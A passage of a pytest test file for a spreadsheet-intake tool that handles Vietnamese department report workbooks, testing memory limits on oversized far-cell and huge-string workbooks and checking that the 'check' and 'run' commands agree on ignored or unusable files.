    xml, n = re.subn(rb'<c r="E32"( s="\d+")?[^>]*?(/>|>.*?</c>)',
                     lambda m: b'<c r="' + cell.encode() + b'"' + (m.group(1) or b"")
                     + b' t="inlineStr"><is><t>' + text.encode() + b"</t></is></c>", xml, count=1)
    assert n == 1
    parts["xl/worksheets/sheet2.xml"] = xml
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    assert 8 * 1024 * 1024 < target.stat().st_size < Limits().max_file_bytes


@pytest.mark.skipif(not hasattr(os, "fork") or not Path("/proc/self/statm").exists(), reason="Linux address-space limit")
def test_peak_memory_stays_under_one_gib(template, tmp_path):
    """The far-cell workbooks (512 GiB for a dense grid) and a 12-million-character cell, read
    in a process whose address space is capped at 1 GiB (its workers inherit the cap)."""
    inbox = tmp_path / "inbox"
    filled(template, inbox / template_file_name("so-gtvt", "hcm-dti-so", PERIOD), unit="so-gtvt")
    shutil.copy(CORPUS / "49-far-cell.xlsx", inbox / "far.xlsx")
    shutil.copy(CORPUS / "50-far-cell-guide.ods", inbox / "far.ods")
    _huge_string_workbook(template, inbox / SO_TTTT)
    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "-c", MEMORY_SCRIPT, str(inbox), str(out)], capture_output=True,
                          text=True, timeout=600, cwd=Path(__file__).resolve().parents[1])
    assert done.returncode == 0, done.stderr[-3000:]
    report = json.loads(done.stdout.strip().splitlines()[-1])
    files = report["files"]
    assert files["far.xlsx"] == ["rejected", ["sheet-too-large"]]
    assert files["far.ods"] == ["rejected", ["sheet-too-large"]]
    assert files[SO_TTTT][0] == "accepted"
    assert max(report["self"], report["children"]) * 1024 < 1024 ** 3  # ru_maxrss is in KiB on Linux
    # Output proportional to input: the 12 MB value is in issues.csv as 300 characters.
    assert (out / "issues.csv").stat().st_size < 200_000


# --- check and run say the same -----------------------------------------------------------------

def test_check_and_run_agree_on_ignored_and_unusable_files(template, tmp_path):
    inbox = tmp_path / "inbox"
    filled(template, inbox / SO_TTTT)
    shutil.copy(CORPUS / "65-flat-ods.fods", inbox / "so-gtvt_hcm-dti-so_2023.fods")
    (inbox / "cong-van.pdf").write_bytes(b"%PDF-1.4\n%%EOF\n")
    runner = CliRunner()
    for name, verdict in (("cong-van.pdf", "bỏ qua"), ("so-gtvt_hcm-dti-so_2023.fods", "có lỗi")):
        result = runner.invoke(main, ["check", str(inbox / name)])
        assert result.exit_code == 1 and verdict in result.output, result.output
    result = runner.invoke(main, ["run", "--period", PERIOD, "--inputs", str(inbox), "--out", str(tmp_path / "out"),
                                  "--workers", "1"])
    assert result.exit_code == 0, result.output
    assert "Đã gửi nhưng không dùng được (hcm-dti-so): Sở Giao thông vận tải" in result.output
    assert "Sở Giao thông vận tải" not in result.output.split("Chưa gửi (hcm-dti-so):")[1].split("\n")[0]
